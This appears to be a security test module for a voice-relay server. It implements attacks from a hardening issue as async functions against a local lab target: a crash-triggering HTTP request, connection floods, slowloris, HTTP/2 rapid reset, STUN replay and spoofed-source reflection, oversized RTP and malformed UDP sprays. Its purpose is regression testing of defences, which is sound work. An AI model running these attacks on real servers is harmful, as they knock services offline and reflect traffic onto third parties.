"""The attacks of the hardening issue, against a live server, as plain async functions.

Each takes a :class:`~tests.kit.attack.lab.Target`, does what the issue's attacker
did (from 127.0.0.1 unless said otherwise) and returns what the attacker saw,
as a dict: the tests assert on it, ``bench/attack_impact.py`` prints it. None of
them judges the server's health; the kit's attack window does that.
"""

from __future__ import annotations

import collections
import contextlib
import json
import random
import socket
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Any

import trio

from botcall.demo.signals import tone
from botcall_sdk import connect
from botcall.wire.stun import binding_request
from tests.kit.attack.lab import (
    LEGIT,
    LEGIT_2,
    MB,
    SPOOF_VICTIM,
    Closed,
    RawWebSocket,
    Target,
    WebSocketRejected,
    create_room,
    invite_secret,
    joined,
    largest_gap,
    open_ws,
    raise_own_file_limit,
    record_arrivals,
    source,
)
from tests.kit.speaking import keep_saying

# Issue item 1, byte for byte: a GET with a lying Content-Length and one body
# byte, then an early close. Hypercorn 0.18's h11 error path raised
# trio.BusyResourceError and the whole server exited with status 1.
CRASH_BYTES = b"GET /healthz HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n{"
# A request the server answers at once (the per-address join bucket runs dry: 429)
# without reading the body it announced. Held by a thousand connections at the
# file limit and released at once, every one takes the path CRASH_BYTES takes.
ANSWERED_BEFORE_ITS_BODY = b"POST /v1/join HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n{"
# An unfinished request: the connection stays open and counts against the server.
PARTIAL_REQUEST = b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
CONNECT_TIMEOUT = 5.0
RTP_FIRST_BYTES = range(128, 192)
DTLS_FIRST_BYTES = range(20, 64)
STUN_FIRST_BYTES = range(0, 4)


# --- raw HTTP ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class RawResponse:
    """One HTTP/1.x response read off a raw socket (header names lower-case, last one wins)."""

    status: int
    headers: dict[str, str]
    body: bytes

    def json_error(self) -> tuple[str, str] | None:
        """``(code, message)`` if the body is exactly ``{"error": {"code", "message"}}`` with
        two non-empty strings, else None."""
        try:
            payload = json.loads(self.body)
        except ValueError:
            return None
        if not isinstance(payload, dict) or set(payload) != {"error"}:
            return None
        error = payload["error"]
        if not isinstance(error, dict) or set(error) != {"code", "message"}:
            return None
        code, message = error["code"], error["message"]
        if not (isinstance(code, str) and code and isinstance(message, str) and message):
            return None
        return code, message


def parse_responses(data: bytes, *, bodiless: bool = False) -> tuple[list[RawResponse], bytes]:
    """Split what a server sent into whole responses; returns them and the unparsed rest.

    A response without Content-Length or chunked framing runs to the end of ``data``
    (the server closes to end it).

    Args:
        data: everything received on one connection.
        bodiless: the answers to HEAD requests (no body, whatever the headers say).

    Raises:
        ValueError: the bytes are not HTTP/1.x responses.
    """
    responses = []
    while data:
        end = data.find(b"\r\n\r\n")
        if end < 0:
            break
        lines = data[:end].split(b"\r\n")
        version, _, rest = lines[0].partition(b" ")
        if not version.startswith(b"HTTP/1."):
            raise ValueError(f"not an HTTP/1 status line: {lines[0][:80]!r}")
        status = int(rest[:3])
        headers = {}
        for line in lines[1:]:
            name, _, value = line.partition(b":")
            headers[name.strip().lower().decode("latin-1")] = value.strip().decode("latin-1")
        body_start = end + 4
        if bodiless and status >= 200:
            body, data = b"", data[body_start:]
        elif "chunked" in headers.get("transfer-encoding", "").lower():
            body, consumed = _dechunk(data[body_start:])
            if consumed is None:
                break
            data = data[body_start + consumed :]
        elif "content-length" in headers:
            length = int(headers["content-length"])
            if len(data) - body_start < length:
                break
            body = data[body_start : body_start + length]
            data = data[body_start + length :]
        elif status < 200 or status in (204, 304):
            body, data = b"", data[body_start:]
        else:
            body, data = data[body_start:], b""
        responses.append(RawResponse(status, headers, body))
    return responses, data


def _dechunk(data: bytes) -> tuple[bytes, int | None]:
    body, offset = b"", 0
    while True:
        line_end = data.find(b"\r\n", offset)
        if line_end < 0:
            return body, None
        size = int(data[offset:line_end].split(b";")[0], 16)
        start = line_end + 2
        if size == 0:
            trailer_end = data.find(b"\r\n\r\n", line_end)
            if trailer_end >= 0 and trailer_end == line_end:
                return body, line_end + 4
            blank = data.find(b"\r\n", start)
            return (body, blank + 2) if blank >= 0 else (body, None)
        if len(data) < start + size + 2:
            return body, None
        body += data[start : start + size]
        offset = start + size + 2


@dataclass
class Exchange:
    """What happened on one raw connection: the bytes back, parsed, and how it ended."""

    received: bytes = b""
    responses: list[RawResponse] = field(default_factory=list)
    unparsed: bytes = b""
    ended_by_server: bool = False
    error: str | None = None


async def raw_exchange(
    target: Target,
    parts: list[bytes],
    *,
    close_early: bool = False,
    reset: bool = False,
    half_close: bool = False,
    gap: float = 0.0,
    read_timeout: float = 3.0,
    idle: float = 0.3,
    head: bool = False,
) -> Exchange:
    """Send ``parts`` on a fresh connection and read what comes back.

    Args:
        parts: written one after another (``gap`` seconds apart).
        close_early: close right after sending, read nothing.
        reset: close with a TCP reset (SO_LINGER 0) instead of a FIN.
        half_close: shut our sending side after the request (the server sees EOF).
        read_timeout: stop reading after this long in all.
        idle: after a whole response, stop when nothing more comes for this long.
        head: the request is a HEAD (its answer has no body).
    """
    exchange = Exchange()
    stream = await trio.open_tcp_stream(*target.host_port)
    try:
        try:
            for index, part in enumerate(parts):
                if index and gap:
                    await trio.sleep(gap)
                await stream.send_all(part)
            if half_close:
                await stream.send_eof()
        except (trio.BrokenResourceError, trio.ClosedResourceError) as exc:
            exchange.error = f"send: {exc!r}"
        if close_early:
            return exchange
        deadline = trio.current_time() + read_timeout
        while trio.current_time() < deadline:
            wait = deadline - trio.current_time()
            if exchange.responses:
                wait = min(wait, idle)
            with trio.move_on_after(wait) as waited:
                try:
                    data = await stream.receive_some(65536)
                except (trio.BrokenResourceError, trio.ClosedResourceError) as exc:
                    exchange.error = f"receive: {exc!r}"
                    exchange.ended_by_server = True
                    break
            if waited.cancelled_caught:
                if exchange.responses:
                    break
                continue
            if not data:
                exchange.ended_by_server = True
                break
            exchange.received += data
            try:
                exchange.responses, exchange.unparsed = parse_responses(exchange.received, bodiless=head)
            except ValueError as exc:
                exchange.error = f"unparsable: {exc}"
                break
        if exchange.ended_by_server and exchange.error is None:
            with contextlib.suppress(ValueError):
                exchange.responses, exchange.unparsed = parse_responses(exchange.received, bodiless=head)
        return exchange
    finally:
        await _close(stream, reset=reset)


async def _close(stream: trio.SocketStream, *, reset: bool = False) -> None:
    if reset:
        with contextlib.suppress(OSError):
            stream.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
    await stream.aclose()


# --- item 1: one connection kills the process ---------------------------------------------------------


async def crash_bytes(target: Target, *, repeats: int = 10, resets: int = 2, pause: float = 0.05) -> dict:
    """Send ``CRASH_BYTES`` and close at once: ``repeats`` times with a FIN (the crash is
    a race: measured here, each FIN close killed the 0.18 stack with a chance of about
    0.4), then ``resets`` times with a TCP reset."""
    for index in range(repeats + resets):
        await raw_exchange(target, [CRASH_BYTES], close_early=True, reset=index >= repeats)
        await trio.sleep(pause)
    return {"sent": repeats + resets}


async def connection_flood(
    target: Target,
    *,
    count: int = 1100,
    concurrency: int = 200,
    observe: float = 1.0,
    payload: bytes = PARTIAL_REQUEST,
    during: Callable[[], Awaitable[Any]] | None = None,
    refill: float | None = None,
    settle: float = 1.0,
) -> dict:
    """Open ``count`` connections from 127.0.0.1, each sending ``payload`` (by default an
    unfinished request); wait ``observe`` seconds, run ``during`` (legitimate work from
    elsewhere) while they are open, wait ``settle`` seconds, then release them all at once.

    Args:
        refill: a persistent attacker: a connection the server ends is opened again
            after this many seconds, so the flood keeps its size until the release
            (without it, a server that drops stalled connections after a few seconds
            frees itself).
        settle: after ``during``, stop refilling and wait this long before counting
            what is still open and releasing it.

    Returns:
        ``opened`` (connections, refills included), ``connect_failures`` (by
        exception), ``statuses`` and ``codes`` (every answer the server gave the
        attacker), ``ended_by_server``, ``still_open`` (at the release), and
        ``during`` (what ``during`` returned).
    """
    raise_own_file_limit(count + 1024)
    open_now: set[trio.SocketStream] = set()
    tally = {"opened": 0, "ended_by_server": 0, "tried": 0, "releasing": False, "stop_refilling": False}
    failures: collections.Counter = collections.Counter()
    statuses: collections.Counter = collections.Counter()
    codes: collections.Counter = collections.Counter()
    limiter = trio.CapacityLimiter(concurrency)
    all_tried = trio.Event()

    async def hear_out(stream: trio.SocketStream) -> None:
        received = b""
        while True:
            try:
                data = await stream.receive_some(65536)
            except trio.ClosedResourceError:
                break  # we released it
            except trio.BrokenResourceError:
                data = b""
            if not data:
                if not tally["releasing"]:
                    tally["ended_by_server"] += 1
                break
            received += data
        if not received:
            return
        try:
            responses, _ = parse_responses(received)
        except ValueError:
            statuses["garbage"] += 1
            return
        for response in responses:
            statuses[response.status] += 1
            error = response.json_error()
            codes[error[0] if error else "no JSON error body"] += 1

    async def slot() -> None:
        first = True
        while True:
            stream = None
            async with limiter:
                try:
                    with trio.fail_after(CONNECT_TIMEOUT):
                        stream = await trio.open_tcp_stream(*target.host_port)
                    tally["opened"] += 1
                    open_now.add(stream)
                    await stream.send_all(payload)
                except (OSError, trio.TooSlowError, trio.BrokenResourceError, trio.ClosedResourceError) as exc:
                    failures[type(exc).__name__] += 1
            if first:
                first = False
                tally["tried"] += 1
                if tally["tried"] == count:
                    all_tried.set()
            if stream is not None:
                await hear_out(stream)
                open_now.discard(stream)
                await stream.aclose()
            if refill is None or tally["stop_refilling"]:
                return
            await trio.sleep(refill)

    during_result = None
    async with trio.open_nursery() as nursery:
        try:
            for _ in range(count):
                nursery.start_soon(slot)
            await all_tried.wait()
            await trio.sleep(observe)
            if during is not None:
                during_result = await during()
            # Connections the kernel queued but the server has not accepted yet are
            # open too: give it a moment to deal with them before counting.
            tally["stop_refilling"] = True
            await trio.sleep(settle)
        finally:
            still_open = len(open_now)
            # Release every connection at once: one synchronous pass, no checkpoint between.
            tally["releasing"] = True
            for stream in list(open_now):
                stream.socket.close()
            nursery.cancel_scope.cancel()
    return {
        "opened": tally["opened"],
        "connect_failures": dict(failures),
        "statuses": dict(statuses),
        "codes": dict(codes),
        "ended_by_server": tally["ended_by_server"],
        "still_open": still_open,
        "during": during_result,
    }


# --- item 2: one pcm16 frame freezes the relay ---------------------------------------------------------


async def websocket_bot(target: Target, agent: str, room_id: str, *, controller: str = "attacker", binary: bool = True, **media: Any) -> tuple[dict, RawWebSocket]:
    """Join ``agent`` with the WebSocket transport and open its channel (after ``welcome``)."""
    answer = await joined(target, target.token(agent, controller), room_id, agent, transport="websocket", **media)
    ws = await open_ws(target, f"/v1/stream/{answer['session_id']}" + ("?audio=binary" if binary else ""))
    await ws.expect("welcome")
    return answer, ws


async def attacker_room(target: Target, **body: Any) -> dict:
    return await create_room(target, target.token("attacker-host"), **body)


async def pcm16_big_frame(target: Target, *, size: int = 4 * MB, wait: float = 60.0) -> dict:
    """A pcm16 WebSocket bot sends one binary frame of ``size`` bytes, then a ping.

    Returns:
        ``close_code`` (None: the server kept the socket), ``pong_after_s`` (how
        long the ping took after the frame was sent: the stall), ``send_error``.
    """
    room = await attacker_room(target)
    _, ws = await websocket_bot(target, "attacker-pcm", room["room_id"], encoding="pcm16", sample_rate=48000)
    result: dict[str, Any] = {"size": size, "close_code": None, "closed": False, "pong_after_s": None, "send_error": None, "errors": []}
    try:
        try:
            await ws.send_bytes(bytes(size))
            sent = time.monotonic()
            await ws.send_json({"type": "ping", "nonce": "after-the-frame"})
        except (trio.BrokenResourceError, trio.ClosedResourceError) as exc:
            result["send_error"] = repr(exc)
            sent = time.monotonic()
        with trio.move_on_after(wait):
            while True:
                event = await ws.receive_json(wait)
                if isinstance(event, Closed):
                    result["closed"], result["close_code"] = True, event.code
                    break
                if event.get("type") == "error":
                    result["errors"].append(event.get("code"))
                if event.get("type") == "pong":
                    result["pong_after_s"] = time.monotonic() - sent
                    break
    finally:
        await ws.abort()
    return result


# --- item 5: exhaustion -----------------------------------------------------------------------------------


async def lobby_flood(target: Target, *, count: int = 1000, concurrency: int = 100, hold: float = 1.0) -> dict:
    """Open ``count`` signaling WebSockets from one address with one invite link and say hello.

    Returns:
        ``in_lobby`` (sockets that got the ``lobby`` event) and ``outcomes`` (every
        socket's fate: ``lobby``, ``http <status>``, ``close <code>``, ``error <code>``...).
    """
    raise_own_file_limit(count + 1024)
    room = await attacker_room(target)
    secret = invite_secret(room["invite_url"])
    path = f"/v1/signal/{room['room_id']}"
    outcomes: collections.Counter = collections.Counter()
    lobby: list[RawWebSocket] = []
    limiter = trio.CapacityLimiter(concurrency)

    async def one() -> None:
        async with limiter:
            try:
                ws = await open_ws(target, path, timeout=CONNECT_TIMEOUT)
            except WebSocketRejected as exc:
                outcomes[f"http {exc.status}"] += 1
                return
            except (OSError, trio.TooSlowError) as exc:
                outcomes[f"connect {type(exc).__name__}"] += 1
                return
            try:
                await ws.send_json({"type": "hello", "invite": secret})
                event = await ws.receive_json(CONNECT_TIMEOUT)
            except (trio.BrokenResourceError, trio.ClosedResourceError, trio.TooSlowError) as exc:
                outcomes[f"hello {type(exc).__name__}"] += 1
                await ws.abort()
                return
            if isinstance(event, Closed):
                outcomes[f"close {event.code}"] += 1
            elif event.get("type") == "lobby":
                outcomes["lobby"] += 1
                lobby.append(ws)
                return
            else:
                outcomes[f"{event.get('type')} {event.get('code')}"] += 1
            await ws.abort()

    try:
        async with trio.open_nursery() as nursery:
            for _ in range(count):
                nursery.start_soon(one)
        await trio.sleep(hold)
    finally:
        for ws in lobby:
            ws.stream.socket.close()
    return {"in_lobby": outcomes["lobby"], "outcomes": dict(outcomes)}


async def control_flood(target: Target, *, messages: int = 2000, quiet: float = 1.0, limit: float = 20.0) -> dict:
    """One bot toggles mute ``messages`` times as fast as it can; a second bot in the room
    counts the ``muted`` events it is sent.

    Returns:
        ``sent``, ``muted_events`` (at the watcher), ``rate_limited`` (error events
        the flooder got), ``close_code`` (the flooder's socket, if the server closed it).
    """
    room = await attacker_room(target)
    _, flooder = await websocket_bot(target, "attacker-flooder", room["room_id"], binary=False)
    _, watcher = await websocket_bot(target, "attacker-watcher", room["room_id"], binary=False)
    result: dict[str, Any] = {"sent": 0, "muted_events": 0, "rate_limited": 0, "close_code": None, "error_codes": {}}
    errors: collections.Counter = collections.Counter()

    async def count_events(ws: RawWebSocket, on_event: Callable[[dict], None], done: trio.Event) -> None:
        while True:
            try:
                event = await ws.receive_json(quiet)
            except trio.TooSlowError:
                if done.is_set():
                    return
                continue
            if isinstance(event, Closed):
                return
            on_event(event)

    def watched(event: dict) -> None:
        if event.get("type") == "muted":
            result["muted_events"] += 1

    def flooded(event: dict) -> None:
        if event.get("type") == "error":
            errors[event.get("code")] += 1

    done = trio.Event()
    try:
        with trio.move_on_after(limit):
            async with trio.open_nursery() as nursery:
                nursery.start_soon(count_events, watcher, watched, done)
                nursery.start_soon(count_events, flooder, flooded, done)
                for index in range(messages):
                    try:
                        await flooder.send_json({"type": "control", "action": "mute", "value": index % 2 == 0})
                    except (trio.BrokenResourceError, trio.ClosedResourceError):
                        break
                    result["sent"] += 1
                done.set()
    finally:
        result["rate_limited"] = errors["rate_limited"]
        result["error_codes"] = dict(errors)
        result["close_code"] = flooder.closed.code if flooder.closed else None
        await flooder.abort()
        await watcher.abort()
    return result


async def slowloris(target: Target, *, headers: int = 8, bodies: int = 8, interval: float = 0.5, duration: float = 10.0) -> dict:
    """Connections that send their request headers (``headers``) or their body
    (``bodies``, to ``POST /v1/join``) one byte every ``interval`` seconds.

    Returns:
        ``ended``: one entry per connection the server ended, ``{"kind", "after_s",
        "status", "code"}`` (status None: closed without an answer); ``open_at_end``:
        how many were still open after ``duration`` seconds, by kind.
    """
    started = time.monotonic()
    ended: list[dict] = []
    still_open: collections.Counter = collections.Counter()
    body_head = (
        b"POST /v1/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: 1000\r\n\r\n{"
    )

    async def one(kind: str) -> None:
        stream = await trio.open_tcp_stream(*target.host_port)
        received = b""
        first, drip = (b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ", b"a") if kind == "header" else (body_head, b" ")

        async def drip_bytes() -> None:
            with contextlib.suppress(trio.BrokenResourceError, trio.ClosedResourceError):
                await stream.send_all(first)
                while True:
                    await trio.sleep(interval)
                    await stream.send_all(drip)

        try:
            with trio.move_on_after(duration):
                async with trio.open_nursery() as nursery:
                    nursery.start_soon(drip_bytes)
                    while True:
                        try:
                            data = await stream.receive_some(65536)
                        except (trio.BrokenResourceError, trio.ClosedResourceError):
                            data = b""
                        if data:
                            received += data
                            continue
                        status, code = None, None
                        with contextlib.suppress(ValueError):
                            responses, _ = parse_responses(received)
                            if responses:
                                status = responses[0].status
                                error = responses[0].json_error()
                                code = error[0] if error else None
                        ended.append({"kind": kind, "after_s": round(time.monotonic() - started, 2), "status": status, "code": code})
                        nursery.cancel_scope.cancel()
                        return
            still_open[kind] += 1
        finally:
            await _close(stream)

    async with trio.open_nursery() as nursery:
        for kind in ["header"] * headers + ["body"] * bodies:
            nursery.start_soon(one, kind)
    return {"ended": ended, "open_at_end": dict(still_open)}


async def h2c_rapid_reset(target: Target, *, connections: int = 4, streams: int = 5000, batch: int = 100) -> dict:
    """HTTP/2 with prior knowledge over cleartext: open and at once reset ``streams``
    streams on each of ``connections`` connections.

    Returns:
        ``h2_answers``: connections the server answered in HTTP/2 (a SETTINGS frame);
        ``http1_statuses``: HTTP/1 answers instead; ``streams_sent``.
    """
    import h2.config
    import h2.connection

    result: dict[str, Any] = {"h2_answers": 0, "http1_statuses": [], "streams_sent": 0, "send_errors": 0}

    async def one() -> None:
        stream = await trio.open_tcp_stream(*target.host_port)
        received = bytearray()
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        connection.initiate_connection()

        async def read() -> None:
            with contextlib.suppress(trio.BrokenResourceError, trio.ClosedResourceError):
                while data := await stream.receive_some(65536):
                    if len(received) < 65536:
                        received.extend(data)

        try:
            async with trio.open_nursery() as nursery:
                nursery.start_soon(read)
                try:
                    await stream.send_all(connection.data_to_send())
                    stream_id = 1
                    for _ in range(streams // batch):
                        for _ in range(batch):
                            connection.send_headers(
                                stream_id,
                                [(":method", "GET"), (":path", "/healthz"), (":scheme", "http"), (":authority", "x")],
                                end_stream=True,
                            )
                            connection.reset_stream(stream_id)
                            stream_id += 2
                        await stream.send_all(connection.data_to_send())
                        result["streams_sent"] += batch
                except (trio.BrokenResourceError, trio.ClosedResourceError):
                    result["send_errors"] += 1
                await trio.sleep(0.5)
                nursery.cancel_scope.cancel()
        finally:
            await _close(stream)
        head = bytes(received[:16])
        if head.startswith(b"HTTP/1."):
            result["http1_statuses"].append(int(head[9:12]))
        elif len(head) >= 9 and head[3] == 0x04:  # a frame header whose type is SETTINGS (RFC 9113 §6.5)
            result["h2_answers"] += 1

    async with trio.open_nursery() as nursery:
        for _ in range(connections):
            nursery.start_soon(one)
    return result


# --- items 3 and 4: STUN --------------------------------------------------------------------------------------


def classify_datagrams(datagrams: list[bytes]) -> dict[str, int]:
    """Count datagrams by their RFC 7983 first byte: ``stun``, ``dtls``, ``rtp`` (RTP and RTCP), ``other``."""
    counts = {"stun": 0, "dtls": 0, "rtp": 0, "other": 0}
    for data in datagrams:
        first = data[0] if data else -1
        kind = "stun" if first in STUN_FIRST_BYTES else "dtls" if first in DTLS_FIRST_BYTES else "rtp" if first in RTP_FIRST_BYTES else "other"
        counts[kind] += 1
    return counts


async def collect_datagrams(sock: trio.socket.SocketType, seconds: float, into: list[bytes]) -> None:
    """Append everything ``sock`` receives for ``seconds`` seconds."""
    with trio.move_on_after(seconds):
        while True:
            data, _ = await sock.recvfrom(65536)
            into.append(data)


async def udp_socket(address: str) -> trio.socket.SocketType:
    sock = trio.socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    await sock.bind((address, 0))
    return sock


async def speak_tone(call: Any) -> None:
    """Say a tone until cancelled (paced 20 ms frames)."""
    second = tone(523.0, 1.0)
    await keep_saying(call, second)


@asynccontextmanager
async def speaking(call: Any) -> AsyncIterator[None]:
    """``call`` says a tone while the block runs (stopped before the call ends)."""
    async with trio.open_nursery() as nursery:
        nursery.start_soon(speak_tone, call)
        yield
        nursery.cancel_scope.cancel()


async def stun_replay(target: Target, *, checks_after: int = 40, listen: float = 2.0) -> dict:
    """Replay a victim bot's old Binding request from the attacker's address.

    The victim (an SDK bot from ``LEGIT_2``) hears a speaker (an SDK bot from
    ``LEGIT``) in a room of their own. It makes one more check with its own
    credentials (the request the attacker captures), then ``checks_after``
    newer ones (a browser checks every 2.5 s: a minute and a half's worth),
    all from its own address. The attacker then sends the captured request,
    and the newest one, from 127.0.0.1.

    Returns:
        ``attacker`` (what the attacker's socket got, by kind), ``victim_before``
        and ``victim_after`` (RTP packets the victim got in the ``listen`` seconds
        before and after the replay), ``victim_largest_gap_after_s``.
    """
    room = await create_room(target, target.token("victim-host", "victim"))
    arrivals: list[float] = []
    created: list = []
    got: list[bytes] = []
    attacker = await udp_socket("127.0.0.1")
    with source(LEGIT_2, created=created):
        async with connect(target.http_url, room["room_id"], target.token("victim", "victim")) as victim:
            record_arrivals(victim, lambda moment, seq, size: arrivals.append(moment))
            with source(LEGIT):
                async with connect(target.http_url, room["room_id"], target.token("victim-speaker", "victim")) as speaker:
                    async with speaking(speaker):
                        with trio.fail_after(20):
                            while len(arrivals) < 25:
                                await trio.sleep(0.05)
                        victim_sock = next(s for s in created if s.type == socket.SOCK_DGRAM)
                        username = f"{victim.media['ice_ufrag']}:victim"
                        captured = binding_request(username, victim.media["ice_pwd"])
                        await victim_sock.sendto(captured, target.media_addr)
                        newest = captured
                        for _ in range(checks_after):
                            await trio.sleep(0.01)
                            newest = binding_request(username, victim.media["ice_pwd"])
                            await victim_sock.sendto(newest, target.media_addr)
                        await trio.sleep(0.3)
                        replayed_at = time.monotonic()
                        for replayed in (captured, newest):
                            await attacker.sendto(replayed, target.media_addr)
                        await collect_datagrams(attacker, listen, got)
                        done = time.monotonic()
    attacker.close()
    return {
        "attacker": classify_datagrams(got),
        "victim_before": sum(1 for t in arrivals if replayed_at - listen <= t < replayed_at),
        "victim_after": sum(1 for t in arrivals if replayed_at <= t <= done),
        "victim_largest_gap_after_s": largest_gap(arrivals, replayed_at, done),
    }


async def stun_spoof_latch(target: Target, *, listen: float = 2.0, requests: int = 3) -> dict:
    """Latch the attacker's own session onto an address that never asked for media.

    The attacker joins a bot (raw HTTP, UDP credentials) and a speaker (SDK) in
    its own room. A socket on ``SPOOF_VICTIM`` stands for the forged source
    address: the attacker's signed Binding request is sent from it (without raw
    sockets that is how a forged source looks to the relay), and it never
    answers anything.

    Returns:
        ``victim``: what the victim socket received in ``listen`` seconds, by kind.
    """
    room = await attacker_room(target)
    reflector = await joined(target, target.token("attacker-reflector"), room["room_id"], "attacker-reflector")
    victim = await udp_socket(SPOOF_VICTIM)
    got: list[bytes] = []
    async with connect(target.http_url, room["room_id"], target.token("attacker-speaker")) as speaker:
        async with speaking(speaker):
            await trio.sleep(0.3)
            media = reflector["media"]
            for _ in range(requests):
                await victim.sendto(binding_request(f"{media['ice_ufrag']}:spoofed", media["ice_pwd"]), target.media_addr)
                await trio.sleep(0.05)
            await collect_datagrams(victim, listen, got)
    victim.close()
    return {"victim": classify_datagrams(got), "victim_bytes": sum(len(d) for d in got)}


# --- item 7: oversized RTP --------------------------------------------------------------------------------


async def oversized_rtp(target: Target, *, size: int = 60_000) -> dict:
    """The attacker's bot sends one ``size``-byte RTP datagram between ordinary audio;
    the attacker's other bot records what the relay forwards.

    Returns:
        ``largest_forwarded`` (bytes; the receiver reads up to 2048, so a forwarded
        oversized packet shows as 2048), ``received``, ``received_after`` (packets
        after the big one: the relay still forwards).
    """
    room = await attacker_room(target)
    sizes: list[tuple[float, int]] = []
    async with connect(target.http_url, room["room_id"], target.token("attacker-receiver")) as receiver:
        record_arrivals(receiver, lambda moment, seq, length: sizes.append((moment, length)))
        async with connect(target.http_url, room["room_id"], target.token("attacker-sender")) as sender:
            await (await sender.say(tone(660.0, 0.5))).done()
            await sender.send_opus(bytes(size - 12))
            big_sent = time.monotonic()
            await (await sender.say(tone(660.0, 0.5))).done()
            await trio.sleep(0.3)
    return {
        "size": size,
        "largest_forwarded": max((length for _, length in sizes), default=0),
        "received": len(sizes),
        "received_after": sum(1 for moment, _ in sizes if moment > big_sent),
    }


# --- malformed UDP ----------------------------------------------------------------------------------------


def spray_datagram(rng: random.Random) -> bytes:
    """One malformed or hostile datagram for the media port."""
    kind = rng.randrange(8)
    if kind == 0:
        return rng.randbytes(rng.randrange(0, 1500))
    if kind == 1:  # STUN header, random length and attributes
        body = rng.randbytes(rng.randrange(0, 200))
        return bytes([0, 1]) + rng.choice([len(body), rng.randrange(65536)]).to_bytes(2, "big") + b"\x21\x12\xa4\x42" + rng.randbytes(12) + body
    if kind == 2:  # a signed-looking Binding request for a session that does not exist
        return binding_request(f"{rng.randbytes(4).hex()}:x", "not-the-password-0123456")
    if kind == 3:  # RTP-looking, with random SSRC and payload type
        return bytes([0x80 | rng.randrange(16), rng.randrange(256)]) + rng.randbytes(rng.randrange(0, 300))
    if kind == 4:  # RTCP-looking
        return bytes([0x80 | rng.randrange(32), rng.choice([200, 201, 202, 203, 204, 205, 206])]) + rng.randbytes(rng.randrange(0, 100))
    if kind == 5:  # DTLS-looking from an address that never passed a check
        return bytes([22, 0xFE, 0xFD]) + rng.randbytes(rng.randrange(0, 300))
    if kind == 6:  # oversized
        return bytes([0x80, 111]) + rng.randbytes(rng.randrange(1500, 65000))
    return bytes([rng.randrange(256)])


async def udp_spray(target: Target, *, count: int = 5000, seed: int = 7, listen: float = 0.5) -> dict:
    """Send ``count`` malformed datagrams to the media port from 127.0.0.1.

    Returns:
        ``sent_bytes``, and what came back (``replies`` by kind, ``reply_bytes``).
    """
    rng = random.Random(seed)
    sock = await udp_socket("127.0.0.1")
    got: list[bytes] = []
    sent_bytes = 0
    async with trio.open_nursery() as nursery:
        nursery.start_soon(collect_datagrams, sock, 3600.0, got)
        for index in range(count):
            data = spray_datagram(rng)
            with contextlib.suppress(OSError):  # an ICMP error from an earlier datagram
                await sock.sendto(data, target.media_addr)
                sent_bytes += len(data)
            if index % 50 == 49:
                await trio.sleep(0.001)
        await trio.sleep(listen)
        nursery.cancel_scope.cancel()
    sock.close()
    return {"sent": count, "sent_bytes": sent_bytes, "replies": classify_datagrams(got), "reply_bytes": sum(len(d) for d in got)}


# --- item 7: a WebSocket that stops reading -----------------------------------------------------------------


async def stalled_reader(target: Target, *, rooms: int = 2, readers: int = 3, hold: float = 12.0) -> dict:
    """pcm16 WebSocket bots that never read (small receive buffers) while a speaker talks
    in their room, so the server's sends to them block and time out; then they go.

    Args:
        rooms: rooms, each with a talker and ``readers`` stalled bots (a room holds 4 bots).
        hold: keep the sockets open this long, then drop them (TCP reset).

    Returns:
        ``session_ids``: the secrets the server must not log.
    """
    session_ids: list[str] = []
    sockets: list[RawWebSocket] = []
    try:
        async with contextlib.AsyncExitStack() as stack:
            for room_index in range(rooms):
                room = await attacker_room(target)
                for index in range(readers):
                    agent = f"attacker-stalled-{room_index}-{index}"
                    answer = await joined(target, target.token(agent), room["room_id"], agent, transport="websocket", encoding="pcm16", sample_rate=48000)
                    session_ids.append(answer["session_id"])
                    sockets.append(await open_ws(target, f"/v1/stream/{answer['session_id']}?audio=binary", rcvbuf=4096))
                talker = await stack.enter_async_context(connect(target.http_url, room["room_id"], target.token(f"attacker-talker-{room_index}")))
                await stack.enter_async_context(speaking(talker))
            await trio.sleep(hold)
    finally:
        for ws in sockets:
            await ws.abort()
    return {"session_ids": session_ids}


# --- item 7: errors of the HTTP stack itself -----------------------------------------------------------------

STACK_ERROR_REQUESTS = {
    "bad Content-Length": b"POST /v1/join HTTP/1.1\r\nHost: x\r\nContent-Length: abc\r\n\r\n{}",
    "missing Host": b"GET /healthz HTTP/1.1\r\n\r\n",
    "headers too large (431)": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 100_000 + b"\r\n\r\n",
    "bad request line": b"GET /healthz HTTP/1.1 extra\r\nHost: x\r\n\r\n",
    "bad chunk size": b"POST /v1/join HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
}


async def http_stack_errors(target: Target) -> dict[str, Exchange]:
    """Requests that Hypercorn or h11 refuse before the app sees them; what came back for each."""
    return {name: await raw_exchange(target, [data]) for name, data in STACK_ERROR_REQUESTS.items()}
